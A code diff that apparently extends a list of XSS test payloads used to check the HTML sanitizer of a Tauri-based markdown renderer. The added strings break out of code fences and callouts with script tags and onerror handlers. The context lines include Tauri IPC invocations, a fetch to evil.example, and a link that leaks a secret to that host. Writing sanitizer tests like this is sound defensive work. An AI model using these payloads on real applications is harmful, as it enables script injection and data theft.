@@ -136,7 +136,7 @@ fn check_attributes(text: &str, allowed: &HashMap<&str, &[&str]>, source: &str) 
 }
 
 /// Our own, written after what is known of attacks on programs like this one.
-const PAYLOADS: [&str; 48] = [
+const PAYLOADS: [&str; 53] = [
     "<script>__TAURI_INTERNALS__.invoke('x')</script>",
     "<img src=x onerror=\"__TAURI_INTERNALS__.invoke('open_link',{url:'file:///'})\">",
     "<svg/onload=fetch('https://evil.example')>",
@@ -174,6 +174,11 @@ const PAYLOADS: [&str; 48] = [
     "![x](data:image/png;base64,AAAA\"onload=\"alert(1))",
     "![a][r]\n\n[r]: https://evil.example/?q=secret",
     "```\"><script>alert(1)</script>\ncode\n```",
+    "```rust title=\"\"><script>alert(1)</script>\"\ncode\n```",
+    "```rust <img/src=x/onerror=alert(1)>.rs\ncode\n```",
+    "```html\n</span></code><script>alert(1)</script><img src=x onerror=alert(1)>\n```",
+    "```diff\n+</span><script>alert(1)</script>\n@@ <b> @@\n```",
+    "> [!NOTE] <script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
     "```html onload=x\n</code></pre></figure><script>alert(1)</script>\n```",
     "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]\n```",
     "    </code></pre><script>alert(1)</script>",
